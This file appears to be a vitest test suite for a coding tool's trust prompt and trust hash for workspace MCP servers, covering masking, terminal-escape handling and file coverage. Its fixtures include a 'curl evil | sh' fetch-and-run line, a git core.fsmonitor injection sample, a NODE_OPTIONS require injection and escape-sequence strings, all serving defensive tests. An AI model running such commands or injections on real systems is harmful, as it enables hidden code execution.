/**
 * What the trust question shows of a workspace's MCP server, and what its trust hash covers
 * (issue 23, item 3): nothing that runs is left out of the question, and changing a workspace file
 * the entry runs changes the hash, so the operator is asked again.
 */
import * as fs from "node:fs/promises"
import * as path from "node:path"
import { describe, expect, it } from "vitest"
import type { McpServerSettings } from "../../../src/config/schema.ts"
import { describeServer, namedWorkspaceFiles, serverTrustHash, shownValue } from "../../../src/mcp/workspace-trust.ts"
import { trustQuestion } from "../../../src/trust/trust-question.ts"
import { tempDir, writeTree } from "../../support/temp.ts"

const workspace = "/w"

describe("the trust question's lines for a workspace MCP server", () => {
  it("shows command, args, cwd and every env key and value, NODE_OPTIONS included", () => {
    const settings: McpServerSettings = { command: "node", args: ["probe.mjs", "--name", "a b"], cwd: "tools", env: { NODE_OPTIONS: "--require ./x.cjs", MODE: "fast" } }
    const described = describeServer(workspace, settings)
    expect(described).toEqual({
      describe: 'node probe.mjs --name "a b"',
      details: ["cwd /w/tools", 'env NODE_OPTIONS="--require ./x.cjs"', "env MODE=fast"]
    })
    const question = trustQuestion(workspace, [{ kind: "mcp", workspace, name: "probe", hash: "h", ...described }])
    expect(question.split("\n")).toEqual([
      "/w supplies programs the model could run:",
      '  MCP server probe: node probe.mjs --name "a b"',
      "      cwd /w/tools",
      '      env NODE_OPTIONS="--require ./x.cjs"',
      "      env MODE=fast",
      "Trust them? (asked again when they change)"
    ])
  })

  it("masks credential-like literal values, keeps ${env:…} references as written, and shows what would run", () => {
    const credential = (name: string) => /TOKEN|KEY/.test(name)
    expect(shownValue("GITHUB_TOKEN", "ghp_0123456789abcdef", credential, "env")).toBe('"ghp_…" (masked)')
    expect(shownValue("GITHUB_TOKEN", "${env:GITHUB_TOKEN}", credential, "env")).toBe('"${env:GITHUB_TOKEN}"')
    expect(shownValue("API_KEY", "short", credential, "env")).toBe("short")
    // A command line or a path under a credential-like name is what a program runs: shown whole.
    expect(shownValue("CARGO_KEY_PROVIDER", "sh ./x.sh", credential, "env")).toBe('"sh ./x.sh"')
    expect(shownValue("CARGO_KEY_PROVIDER", "credential-helper --store", credential, "env")).toBe('"credential-helper --store"')
    expect(shownValue("KEY_FILE", "/etc/secret/key.pem", credential, "env")).toBe("/etc/secret/key.pem")
    expect(shownValue("MODE", "ghp_0123456789abcdef", credential, "env")).toBe("ghp_0123456789abcdef")
    expect(shownValue("X-KEY", "Bearer abcdefghijklmnop", credential, "header")).toBe('"Bearer abcd…" (masked)')
    expect(describeServer(workspace, { command: "srv", env: { GITHUB_TOKEN: "ghp_0123456789abcdef" } }).details).toEqual([
      "cwd /w",
      'env GITHUB_TOKEN="ghp_…" (masked)'
    ])
    expect(describeServer(workspace, { url: "https://mcp.example/x", headers: { Authorization: "Bearer abcdefghijklmnop", "X-Team": "blue" }, sampling: true })).toEqual({
      describe: "HTTP https://mcp.example/x (sampling on: may ask your model)",
      details: ['header Authorization: "Bearer abcd…" (masked)', "header X-Team: blue"]
    })
    // Git's settings from the environment name a setting and a program git runs: never masked.
    expect(describeServer(workspace, { command: "srv", env: { GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "core.fsmonitor", GIT_CONFIG_VALUE_0: "touchpwned" } }).details).toEqual([
      "cwd /w",
      "env GIT_CONFIG_COUNT=1",
      "env GIT_CONFIG_KEY_0=core.fsmonitor",
      "env GIT_CONFIG_VALUE_0=touchpwned"
    ])
    expect(describeServer(workspace, { command: "srv", trustAnnotations: true }).describe).toBe("srv (trusts its tools' read-only hints: such calls run unasked)")
  })

  it("keeps names and values from drawing on the terminal: a newline or an escape is spelled out", () => {
    const described = describeServer(workspace, { command: "node", args: ["x\n  tool set ok: harmless"], env: { "A\u001b[2J": "v\u001b[2Jw" } })
    const question = trustQuestion(workspace, [{ kind: "mcp", workspace, name: "s", hash: "h", ...described }])
    expect(question.split("\n")).toHaveLength(5)
    expect(question).not.toContain("\u001b")
    expect(question).toContain('node "x\\n  tool set ok: harmless"')
  })
})

describe("an MCP entry's trust hash", () => {
  const setup = async () => {
    const ws = await tempDir()
    await writeTree(ws, { "server.sh": "echo one\n", "probe.mjs": "1", "x.cjs": "1", "lib/real.sh": "echo real\n", "bin/srv": "#!/bin/sh\n" })
    await fs.symlink("lib/real.sh", path.join(ws, "linked.sh"))
    return ws
  }

  it("names the workspace files its command, args and env values point at, and the command in a workspace PATH folder", async () => {
    const ws = await setup()
    const files = namedWorkspaceFiles(ws, { command: "node", args: ["probe.mjs", "--flag", "--config=conf.json", "/usr/bin/x", "../outside"], env: { NODE_OPTIONS: "--require ./x.cjs", PATH: "./bin:/usr/bin" } })
    expect(files).toEqual(expect.arrayContaining([path.join(ws, "probe.mjs"), path.join(ws, "conf.json"), path.join(ws, "x.cjs"), path.join(ws, "bin", "node")]))
    expect(files).not.toContain("/usr/bin/x")
    expect(files.some((file) => !file.startsWith(`${ws}/`))).toBe(false)
    expect(namedWorkspaceFiles(ws, { url: "http://127.0.0.1:1/mcp" })).toEqual([])
  })

  it.each([
    ["./server.sh itself", { command: "./server.sh" }, "server.sh"],
    ["a script given to an interpreter", { command: "sh", args: ["server.sh"] }, "server.sh"],
    ["a symbolic link's target", { command: "./linked.sh" }, "lib/real.sh"],
    ["a file NODE_OPTIONS requires", { command: "node", args: ["probe.mjs"], env: { NODE_OPTIONS: "--require ./x.cjs" } }, "x.cjs"],
    ["a script inside a -c line", { command: "sh", args: ["-c", "sh server.sh --verbose"] }, "server.sh"],
    ["the program found through a workspace PATH", { command: "srv", env: { PATH: "./bin:/usr/bin" } }, "bin/srv"]
  ] as const)("changes when %s changes", async (_label, settings, changed) => {
    const ws = await setup()
    const before = serverTrustHash(ws, settings, settings as McpServerSettings)
    expect(serverTrustHash(ws, settings, settings as McpServerSettings)).toBe(before)
    await fs.appendFile(path.join(ws, changed), "curl evil | sh\n")
    expect(serverTrustHash(ws, settings, settings as McpServerSettings)).not.toBe(before)
  })

  it("covers files named inside shell code and interpreter code: split at ; | & quotes and parentheses too", async () => {
    const ws = await setup()
    await writeTree(ws, { "a.sh": "echo a\n" })
    const entries: ReadonlyArray<McpServerSettings> = [
      { command: "sh", args: ["-c", "./a.sh;true"] },
      { command: "sh", args: ["-c", "./a.sh|cat"] },
      { command: "sh", args: ["-c", '"./a.sh"'] },
      { command: "sh", args: ["-c", "./a.sh&&exit"] }
    ]
    for (const settings of entries) {
      const before = serverTrustHash(ws, settings, settings)
      await fs.writeFile(path.join(ws, "a.sh"), `echo ${Math.random()}\n`)
      expect({ settings, changed: serverTrustHash(ws, settings, settings) !== before }).toEqual({ settings, changed: true })
    }
    const node: McpServerSettings = { command: "node", args: ["-e", "require('./x.cjs')"] }
    const before = serverTrustHash(ws, node, node)
    await fs.writeFile(path.join(ws, "x.cjs"), "2")
    expect(serverTrustHash(ws, node, node)).not.toBe(before)
  })

  it("says when an argument is inline code whose files may not all be covered", () => {
    expect(describeServer(workspace, { command: "sh", args: ["-c", "./a.sh;true"] }).details[0]).toMatch(/^runs inline code: trusting covers the workspace files it names, not files it reaches otherwise/)
    expect(describeServer(workspace, { command: "/usr/bin/python3.12", args: ["-c", "import x"] }).details[0]).toMatch(/^runs inline code/)
    expect(describeServer(workspace, { command: "env", args: ["A=1", "node", "--eval", "x"] }).details[0]).toMatch(/^runs inline code/)
    expect(describeServer(workspace, { command: "node", args: ["server.mjs", "-e"] }).details).toEqual(["cwd /w"])
    expect(describeServer(workspace, { command: "npx", args: ["-c", "x"] }).details).toEqual(["cwd /w"])
  })

  it("an HTTP entry hashes as its canonical JSON alone, as before", async () => {
    const ws = await setup()
    const { createHash } = await import("node:crypto")
    const raw = { url: "http://127.0.0.1:1/mcp" }
    expect(serverTrustHash(ws, raw, raw)).toBe(createHash("sha256").update('{"url":"http://127.0.0.1:1/mcp"}').digest("hex"))
  })
})
